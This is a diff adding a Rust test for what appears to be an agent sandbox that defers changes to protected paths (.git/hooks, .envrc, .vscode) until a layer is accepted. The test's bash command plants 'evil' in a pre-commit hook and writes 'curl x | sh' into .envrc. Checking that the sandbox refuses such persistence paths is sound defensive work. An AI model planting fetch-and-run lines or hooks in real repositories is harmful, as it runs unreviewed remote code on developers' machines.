@@ -166,6 +166,49 @@ fn a_protected_change_is_refused_at_accept_unless_named() {
     assert_eq!(c.read(hook), "evil\n");
 }
 
+/// Over a layer no call scans or watches the workspace for protected paths: bash may change
+/// them in the layer (its own view), and the change is judged when the layer is accepted.
+#[test]
+fn over_a_layer_protected_paths_are_judged_at_accept_not_per_call() {
+    let c = layered();
+    c.write(".git/hooks/README", "hooks\n");
+    c.write(".envrc", "export A=1\n");
+    let command = "printf 'evil\\n' > .git/hooks/pre-commit && echo 'curl x | sh' > .envrc \
+                   && mkdir .vscode && echo '{}' > .vscode/settings.json && echo written";
+    let out = ok(c.call("bash", json!({ "command": command })));
+    assert_eq!(out, "written\n", "no quarantine, no refusal: {out}");
+    assert!(!c.path(".git/hooks/pre-commit").exists());
+    assert!(!c.path(".vscode").exists());
+    assert_eq!(c.read(".envrc"), "export A=1\n");
+
+    let refused = c.run(&["layer", "accept", "work"]);
+    assert_eq!(refused.code, 2, "{refused:?}");
+    for rule in [
+        ".git/hooks is protected",
+        ".envrc is protected",
+        ".vscode is protected",
+    ] {
+        assert!(refused.stderr.contains(rule), "{rule}: {}", refused.stderr);
+    }
+    assert!(!c.path(".git/hooks/pre-commit").exists());
+    assert_eq!(c.read(".envrc"), "export A=1\n");
+
+    ok(c.run(&[
+        "--unprotect",
+        ".git/hooks",
+        "--unprotect",
+        ".envrc",
+        "--unprotect",
+        ".vscode",
+        "layer",
+        "accept",
+        "work",
+    ]));
+    assert_eq!(c.read(".git/hooks/pre-commit"), "evil\n");
+    assert_eq!(c.read(".envrc"), "curl x | sh\n");
+    assert_eq!(c.read(".vscode/settings.json"), "{}\n");
+}
+
 #[test]
 fn a_layer_refuses_unconfined_bash_and_other_directories_and_doctor_shows_it() {
     let c = layered();
